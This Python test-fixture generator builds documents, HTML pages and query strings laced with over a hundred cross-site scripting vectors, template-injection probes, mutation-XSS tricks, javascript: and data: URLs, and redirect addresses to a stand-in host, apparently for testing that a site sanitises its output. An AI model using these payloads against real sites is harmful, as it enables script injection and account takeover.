# ruff: noqa: E501  # a vector is one line, as it is to be read
"""Markup that would run, load or break out, combined: vectors, disguises, places to stand in.

    vector x disguise x where it stands --> a title, a tag, a body ...  2,000 documents, 600 queries

Each vector asks for a dialog or for an address elsewhere, so that a browser shows what got
through; those that wait for a hand are found as handlers that stand where none should.
"""

import html
import json
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

ELSEWHERE = "evil.example"
_RUN = "alert(1)"
_LOAD = f"//{ELSEWHERE}/x"
# A file of ours that is no picture: its address resolves, and a browser cannot show it.
BROKEN = "broken.png"
OF_OURS = f"<img src={BROKEN} onerror={_RUN}>"

# Elements that run or load by themselves, wait for a hand, change the page they are on.
VECTORS: tuple[str, ...] = (
    OF_OURS, f"<a href=x><img src={BROKEN} onload={_RUN} onerror={_RUN}></a>",
    f"<script>{_RUN}</script>", f"<script src={_LOAD}></script>", f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f"<script/x>{_RUN}</script/y>", f"<<script>{_RUN}//<</script>",
    f"<img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f'<img src="x"onerror="{_RUN}">',
    f"<img src={_LOAD}>", f"<img srcset='{_LOAD} 1x'>", f"<img src=x style=background:url({_LOAD})>",
    f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", "<svg><a xlink:href=javascript:"
    f"{_RUN}><text y=9>x</text></a></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}></svg>", f"<svg><use href=data:image/svg+xml,"
    f"<svg%20id='x'%20onload='{_RUN}'/>#x></svg>", f"<svg><image href={_LOAD}></image></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>", f"<math href=javascript:{_RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><script>{_RUN}</script></annotation-xml></math>",
    f"<iframe src=javascript:{_RUN}></iframe>", f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<iframe src={_LOAD}></iframe>", f"<object data=javascript:{_RUN}></object>",
    f"<object data={_LOAD}></object>", f"<embed src={_LOAD}>", f"<embed src=javascript:{_RUN}>",
    f"<video><source onerror={_RUN}></video>", f"<video src=x onerror={_RUN} poster={_LOAD}></video>",
    f"<audio src={_LOAD} onerror={_RUN} autoplay></audio>", f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}>", f"<body background={_LOAD}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>",
    f"<keygen autofocus onfocus={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>x</a>", f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>", f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a>", f"<a href=x onclick={_RUN}>x</a>", f"<a href='\x01javascript:{_RUN}'>",
    f"<p onmouseover={_RUN} style=position:fixed;inset:0>x</p>", f"<b onpointerenter={_RUN}>x</b>",
    f"<form action=javascript:{_RUN}><button>x</button></form>", f"<form id=search action={_LOAD}></form>",
    f"<button form=search formaction=javascript:{_RUN}>x</button>", f"<isindex action=javascript:{_RUN}>",
    f"<meta http-equiv=refresh content='0;url={_LOAD}'>", f"<base href={_LOAD}/>",
    f"<link rel=stylesheet href={_LOAD}>", f"<link rel=prefetch href={_LOAD}>",
    f"<style>@import '{_LOAD}'</style>", f"<style>*{{background:url({_LOAD})}}</style>",
    f"<div hx-get={_LOAD} hx-trigger=load>x</div>", f"<div data-hx-get=/ data-hx-trigger=load>{_RUN}</div>",
    f"<div hx-on::load='{_RUN}'>x</div>", f"<div hx-on:htmx:load='{_RUN}'>x</div>",
    f"<div hx-vals='js:{{x: {_RUN}}}' hx-get=/ hx-trigger=load>x</div>",
    f"<div hx-ext=x hx-boost=true><a href={_LOAD}>x</a></div>", "<div hx-swap-oob=true id=results>x</div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'><a id=words name=q>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<math><mi><table><style><!--</style><a title='--><img src onerror={_RUN}>'></table></mi></math>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<textarea></textarea><img src=x onerror={_RUN}>", f"<xmp><img title='</xmp><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->", f"<!--<img src='--><img src=x onerror={_RUN}//'>",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>", f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    f"<!DOCTYPE html [<!ENTITY x '<img src=x onerror={_RUN}>'>]>&x;", f"<plaintext><img src=x onerror={_RUN}>",
    f"\"><img src=x onerror={_RUN}>", f"'><svg onload={_RUN}>", f"\" onmouseover={_RUN} x=\"",
    f"' autofocus onfocus={_RUN} '", f"` onerror={_RUN} `", f"--><img src=x onerror={_RUN}>",
    f"</title><img src=x onerror={_RUN}>", f"</script><script>{_RUN}</script>",
    f"</textarea><img src=x onerror={_RUN}>", f"</style><img src=x onerror={_RUN}>",
    f"\\\"}};{_RUN};//", f"'-{_RUN}-'", f"${{{_RUN}}}", "{{7*7}}{{config}}", "{% raw %}{{7*7}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", "{{ ''.__class__.__mro__ }}", "<%= 7*7 %>",
    f"]]><script>{_RUN}</script>", f"\u2028</script><img src=x onerror={_RUN}>", "<mark onclick=1>m</mark>",
    f"%3Cimg src=x onerror={_RUN}%3E", f"&lt;img src=x onerror={_RUN}&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;", f"\uff1cimg src=x onerror={_RUN}\uff1e",
    f"<\u0131mg src=x onerror={_RUN}>", f"<scr\u0131pt>{_RUN}</scr\u0131pt>", f"<i\u0000mg src=x onerror={_RUN}>",
)  # fmt: skip

# Addresses that would run or lead elsewhere than they say.
ADDRESSES: tuple[str, ...] = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f" javascript:{_RUN}", f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}", f"javascript&colon;{_RUN}", f"javascript://a.example/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_RUN}", f"view-source:javascript:{_RUN}", f"blob:https://a.example/{_RUN}",
    f'https://a.example/"onmouseover="{_RUN}', f"https://a.example/'><img src=x onerror={_RUN}>",
    f"https://a.example/#<script>{_RUN}</script>", f"https://a.example/?q=</script><script>{_RUN}</script>",
    f"https://user:{_RUN}@a.example/", "https://a.example\\@evil.example/", "///evil.example",
    "https://[::1", "https://\u0430.example/", "http://a.example:99999999/", "file:///etc/passwd",
    "intent://a#Intent;end", "https:evil.example", "feed:javascript:alert(1)",
)  # fmt: skip

Disguise = Callable[[str], str]

DISGUISES: tuple[Disguise, ...] = (
    str, str, str, str.upper, str.swapcase, html.escape, lambda v: html.escape(html.escape(v)),
    quote, lambda v: v.replace(" ", "\t"), lambda v: v.replace(" ", "/"), lambda v: v.replace(">", ""),
    lambda v: v.replace("=", " = "), lambda v: v.replace("<", "<\x0b"), lambda v: v.replace("(", "&#40;"),
    lambda v: v.replace("<", "&lt"), lambda v: f"\ufeff{v}\u200b", lambda v: v * 2, lambda v: v[::-1] + v,
    lambda v: "".join(f"&#x{ord(c):x};" for c in v), lambda v: v.replace("alert(1)", "alert`1`"),
)  # fmt: skip

# Where a vector stands in a body: as it is, and in what an HTML or Markdown parser reads apart.
PLACES: tuple[str, ...] = (
    "{v}", "{v}", "Text {v} text.", "<div>{v}</div>", "<p title='{v}'>x</p>", '<p title="{v}">x</p>',
    "<a href='{v}'>x</a>", "<a href={v}>x</a>", "<img alt=\"{v}\" src=x>", "<svg>{v}</svg>",
    "<svg><desc>{v}</desc></svg>", "<svg><style>{v}</style></svg>", "<math><mtext>{v}</mtext></math>",
    "<math><mglyph>{v}</mglyph></math>", "<math><annotation encoding='text/html'>{v}</annotation></math>",
    "<table><tr>{v}</tr></table>", "<noscript>{v}</noscript>", "<style>{v}</style>", "<title>{v}</title>",
    "<template>{v}</template>", "<select>{v}</select>", "<textarea>{v}</textarea>", "<iframe>{v}</iframe>",
    "<xmp>{v}</xmp>", "<noembed>{v}</noembed>", "<!-- {v} -->", "<![CDATA[{v}]]>", "<details><summary>{v}",
    "<ol start='{v}'><li>x</ol>", "<td align='{v}'>x</td>", "<h2 id='{v}'>x</h2>", "<code class='{v}'>x</code>",
)  # fmt: skip

OF_MARKDOWN: tuple[str, ...] = (
    "# {v}\n\nText.", "[{v}](x)", "[x]({v})", "[x](<{v}>)", "[x](x '{v}')", "![{v}](x)", "![x]({v})",
    "<{v}>", "[x]: {v}\n\n[x]", "[x]: x '{v}'\n\n[x]", "```{v}\nx\n```", "`{v}`", "    {v}",
    "| a | {v} |\n|---|---|\n| {v} | b |", "[^1]\n\n[^1]: {v}", "> {v}", "* {v}", "$${v}$$", "${v}$",
    "$$\\text{{{v}}}$$", "$$\\href{{{v}}}{{x}}$$", "$$\\style{{{v}}}{{x}}$$", "{{% highlight {v} %}}x",
    "{{% raw %}}{v}{{% endraw %}}", "{{{{ {v} }}}}", "## x {{#{v}}}", "Term\n: {v}", "~~{v}~~ **{v}**",
    "[x][{v}]\n\n[{v}]: x", "<div markdown=1>{v}</div>", "\\<{v}", "&#60;{v}", "[![{v}](x)]({v})",
)  # fmt: skip


def write_documents(number: int, seed: int = 8) -> Iterator[dict[str, object]]:
    """Yield so many entries as a line in JSON states them, hostile in every field."""
    chance = random.Random(seed)
    vector = _vectors(chance)
    for n in range(number):
        place = (PLACES + OF_MARKDOWN)[n % len(PLACES + OF_MARKDOWN)]
        body = "\n\n".join(_place(p, next(vector)) for p in (place, *chance.choices(PLACES, k=2)))
        body = f"{OF_OURS}\n\n{body}" if n % 4 == 0 else body
        series = next(vector) if n % 5 == 0 else f"series {n % 40} {VECTORS[n % 40]}"
        yield {
            "id": f"h{n}", "title": f"piece{n} {next(vector)}", "body": f"word{n}\n\n{body}",
            "summary": next(vector) if n % 3 else "",
            "url": _place(chance.choice(ADDRESSES), str(n)) if n % 2 else f"https://a.example/{n}",
            "canonical_url": chance.choice(ADDRESSES) if n % 7 == 0 else None,
            "tags": [next(vector), VECTORS[n % len(VECTORS)], f"tag {n % 50}{chance.choice(VECTORS)}"],
            "source": next(vector) if n % 4 == 0 else VECTORS[n % 30],
            "author": next(vector), "kind": next(vector) if n % 9 == 0 else "post",
            "language": next(vector) if n % 8 == 0 else "en", "series": series, "part": n,
            "date": f"20{n % 24:02}-0{n % 9 + 1}-{n % 28 + 1:02}",
        }  # fmt: skip


def write_pages(number: int, seed: int = 9) -> Iterator[str]:
    """Yield so many pages in HTML, hostile in head and body."""
    chance = random.Random(seed)
    vector = _vectors(chance)
    for n in range(number):
        body = "".join(_place(place, next(vector)) for place in chance.choices(PLACES, k=4))
        yield (
            f"<html><head><title>page{n} {next(vector)}</title>"
            f"<meta name=description content='{next(vector)}'><meta name=author content='{next(vector)}'>"
            f"<meta name=keywords content='{next(vector)}, k{n}'>"
            f"<link rel=canonical href='{chance.choice(ADDRESSES)}'></head>"
            f"<body><article><h1>page{n}</h1><h2 id='{next(vector)}'>a</h2><h2>{next(vector)}</h2>"
            f"<p>pageword{n}</p>{body}</article></body></html>"
        )


def write_queries(number: int, seed: int = 10) -> Iterator[str]:
    """Yield so many query strings: in the words, in facets, in what is corrected or refused."""
    chance = random.Random(seed)
    vector = _vectors(chance)
    forms = (
        "q={}", "q=piece1+{}", "q=%22{}%22", "q=tag:{}", "q=tag:%22{}%22", "q=title:{}", "q=-{}", "q={}+OR+x",
        "tag={}", "not.tag={}", "source={}", "series={}", "kind={}", "language={}", "year={}", "month={}",
        "minutes={}", "is={}", "sort={}", "page={}", "q=x&page={}", "{}=1", "q=word&tag={}&source=x",
    )  # fmt: skip
    for n in range(number):
        yield forms[n % len(forms)].format(quote(next(vector)))


def _vectors(chance: random.Random) -> Iterator[str]:
    """Yield vectors without end: each as it is, then all in disguises."""
    once = list(VECTORS)
    chance.shuffle(once)
    yield from once
    while True:
        yield chance.choice(DISGUISES)(chance.choice(VECTORS + ADDRESSES))


def _place(place: str, vector: str) -> str:
    try:
        return place.format(v=vector)
    except (ValueError, KeyError, IndexError):  # an address with braces of its own
        return place


def as_lines(documents: Iterator[dict[str, object]]) -> str:
    """Return entries as a file of one entry a line."""
    return "".join(json.dumps(document, default=str) + "\n" for document in documents)
